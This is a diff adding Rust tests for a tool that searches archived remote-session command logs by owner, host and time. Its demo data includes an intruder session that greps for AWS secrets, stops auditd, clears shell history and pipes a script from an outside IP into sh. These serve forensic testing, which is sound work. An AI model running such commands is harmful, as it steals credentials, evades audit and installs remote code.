@@ -1,0 +1,149 @@
+//! Who ran a command, and what a session showed: exact, and honest about time.
+
+use expect_test::expect;
+
+use crate::world::World;
+
+#[test]
+fn a_hit_tells_time_owner_target_session_and_command() {
+    let world = World::with_demo();
+    world.run("search systemctl").is(expect![[r#"
+        2026-08-02 05:32:40–05:34:29Z  alice on i-0e24f79031c6414e1  alice-z81w3ijgndz9r8603r8bxzygn2
+            9  root       systemctl status nginx
+
+        ≤ 2026-11-20 03:12:45Z  mallory (by its session id) on i-0b1d8de9e3b8f40ca  mallory-0c0ffee0c0ffee001
+            5  root       systemctl stop auditd
+    "#]]);
+}
+
+#[test]
+fn filters_narrow_and_an_empty_answer_says_so() {
+    let world = World::with_demo();
+    world.run("search --owner MALLORY history").is(expect![[r#"
+        ≤ 2026-11-20 03:12:45Z  mallory (by its session id) on i-0b1d8de9e3b8f40ca  mallory-0c0ffee0c0ffee001
+            6  root       history -c
+    "#]]);
+    world.run("search --target i-0b1d8de9e3b8f40ca --count ''").is(expect![[r#"
+        7
+    "#]]);
+    world.run("search --from 2026-11-01 --to 2026-11-19 ''").is(expect![[r#"
+        ! window: 2026-11-01 00:00:00Z to 2026-11-19 00:00:00Z
+        ! nothing found; --output searches what was shown, -i ignores case
+        [exit 1]
+    "#]]);
+    world.run("search --since 7d --tz Asia/Tokyo whoami").is(expect![[r#"
+        ≤ 2026-11-20 12:12:45+09:00  mallory (by its session id) on i-0b1d8de9e3b8f40ca  mallory-0c0ffee0c0ffee001
+            1  ?          whoami
+        ! window: 2026-11-16 21:00:00+09:00 to now
+    "#]]);
+}
+
+#[test]
+fn patterns_are_literal_regular_or_blind_to_case_as_asked() {
+    let world = World::with_demo();
+    let count = |line: &str| world.run(line).0;
+    assert_eq!(count("search --count SYSTEMCTL"), "0\n[exit 1]\n");
+    assert_eq!(count("search --count -i SYSTEMCTL"), "2\n");
+    assert_eq!(count("search --count 'a.d'"), "0\n[exit 1]\n");
+    assert_eq!(count("search --count -E 'a.d.t'"), "1\n");
+    world.run("search -E 'a('").is(expect![[r#"
+        ! ssmtrail: the pattern is no regular expression: unclosed group
+        ! hint: without --regex the pattern is taken as it stands
+        [exit 2]
+    "#]]);
+}
+
+#[test]
+fn context_shows_what_was_done_around_a_hit() {
+    let world = World::with_demo();
+    world.run("search -C 1 auditd").is(expect![[r#"
+        ≤ 2026-11-20 03:12:45Z  mallory (by its session id) on i-0b1d8de9e3b8f40ca  mallory-0c0ffee0c0ffee001
+            4  root       grep -r aws_secret /home
+            5  root       systemctl stop auditd
+            6  root       history -c
+    "#]]);
+    world.run("search --output -C 1 payload").is(expect![[r#"
+        ≤ 2026-11-20 03:12:45Z  mallory (by its session id) on i-0b1d8de9e3b8f40ca  mallory-0c0ffee0c0ffee001
+             4- [root@ip-10-0-3-7 ~]# curl -s http://198.51.100.7/install.sh | sh
+             5: fetching payload
+             6- installed to /usr/local/bin/.cache
+    "#]]);
+}
+
+#[test]
+fn the_machine_contract_holds() {
+    let world = World::with_demo();
+    world.run("search auditd --format jsonl").is(expect![[r#"
+        {"session_id":"mallory-0c0ffee0c0ffee001","seq":5,"command":"systemctl stop auditd","kind":"shell","confidence":0.993,"at":null,"at_earliest":null,"at_latest":"2026-11-20T03:12:45Z","owner":"mallory","target":"i-0b1d8de9e3b8f40ca","account_id":null,"region":null,"os_user":"root","cwd":"~","depth":1,"source":"logs","locator":"logs/mallory-0c0ffee0c0ffee001.log","byte_start":665,"byte_end":719,"flaws":[],"host":"ip-10-0-3-7","run_as":null,"line_number":10}
+    "#]]);
+    let json = world.run("search zzz --format json").0;
+    assert_eq!(
+        json,
+        "{\"version\":1,\"commands\":[\n]}\n! nothing found; --output searches what was shown, -i ignores case\n[exit 1]\n"
+    );
+}
+
+#[test]
+fn the_bytes_a_command_points_at_are_the_bytes_it_was_read_from() {
+    let world = World::with_demo();
+    let (out, _, _) = world.parts(&crate::world::words("search '' --format jsonl"));
+    let mut seen = 0;
+    for line in out.lines() {
+        let row: serde_json::Value = serde_json::from_str(line).unwrap();
+        let locator = row["locator"].as_str().unwrap();
+        if locator.ends_with(".jsonl") {
+            continue;
+        }
+        let bytes = std::fs::read(locator).unwrap();
+        let span = row["byte_start"].as_u64().unwrap() as usize
+            ..row["byte_end"].as_u64().unwrap() as usize;
+        let text = String::from_utf8_lossy(&bytes[span]).into_owned();
+        let last = row["command"].as_str().unwrap().chars().last().unwrap();
+        assert!(text.contains(last), "{row} is not in {text:?}");
+        seen += 1;
+    }
+    assert!(seen > 50);
+}
+
+#[test]
+fn one_session_owner_or_target_reads_a_few_row_groups_however_many_lie_beside_it() {
+    use ssmtrail::archive::Archive;
+    use ssmtrail::archive::Which;
+    use ssmtrail::search::Pattern;
+    let world = World::new();
+    // Twelve runs of many sessions each: a year of monthly imports.
+    let lines: Vec<String> = (0..120).map(|it| format!("sh-4.2$ echo {it}")).collect();
+    let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
+    for month in 0..12 {
+        for it in 0..200 {
+            let id = format!("user{:02}-0{:015x}{month:x}", it % 20, it);
+            world.transcript(&format!("m{month}/{id}.log"), &lines);
+        }
+        world.run(&format!("sync m{month}"));
+    }
+    let archive = || Archive::open(&world.path("archive")).unwrap();
+    let held = archive().groups_held("commands");
+    let read = |which: Which| {
+        let archive = archive();
+        let mut hits = 0;
+        ssmtrail::search::commands(&archive, &which, &Pattern::All, &["shell"], |rows| {
+            hits += rows.len();
+            Ok(())
+        })
+        .unwrap();
+        (archive.groups_read(), hits)
+    };
+    assert!(held >= 36, "{held} row groups are enough to tell");
+    let id = "user07-00000000000000073".to_owned();
+    let (session, hits) = read(Which { sessions: vec![id], ..Which::default() });
+    assert_eq!(
+        (hits, session <= 2),
+        (120, true),
+        "one session read {session} of {held} row groups"
+    );
+    let (owner, hits) = read(Which { owners: vec!["user07".into()], ..Which::default() });
+    assert_eq!(hits, 12 * 10 * 120);
+    assert!(owner <= 24, "one owner read {owner} of {held} row groups");
+    let (all, hits) = read(Which::default());
+    assert_eq!((all, hits), (held, 12 * 200 * 120));
+}
